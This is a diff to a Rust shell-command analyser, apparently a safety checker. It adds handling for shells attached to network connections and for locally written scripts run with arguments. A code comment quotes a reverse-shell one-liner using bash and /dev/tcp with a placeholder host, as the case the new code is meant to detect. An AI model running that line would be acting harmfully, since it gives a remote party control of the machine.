@@ -43,6 +43,12 @@ fn posix_shell<'a>(walker: &mut Walker<'a>, call: &Call<'a>, dialect: Dialect) {
     if call.has_any(words!("help version")) {
         return;
     }
+    // `bash -i >& /dev/tcp/host/4444 0>&1`: whoever is there decides what runs.
+    if walker.connected {
+        walker.mark_changing();
+        walker.run_stream(Stream::Download, dialect, Scoping::Own, call.at);
+        return;
+    }
     if let Some(code) = call.value("command") {
         // `bash -c 'code' name arg…`: the words behind the code are $0, $1…
         let positional = call.operands.get(1..).unwrap_or(&[]);
@@ -78,8 +84,13 @@ fn posix_shell<'a>(walker: &mut Walker<'a>, call: &Call<'a>, dialect: Dialect) {
             _ => {
                 walker.mark_changing();
                 // A script that this very text has written can be read.
-                if let Some(content) = walker.content_of(script) {
-                    walker.run_stream(content, dialect, Scoping::Own, script.at);
+                if let Some(found) = walker.script_of(script) {
+                    let positional = call.operands.get(1..);
+                    walker.with_positional(positional, |walker| {
+                        walker.in_file(found.path, |walker| {
+                            walker.run_stream(found.content, dialect, Scoping::Own, script.at)
+                        });
+                    });
                 }
             }
         },
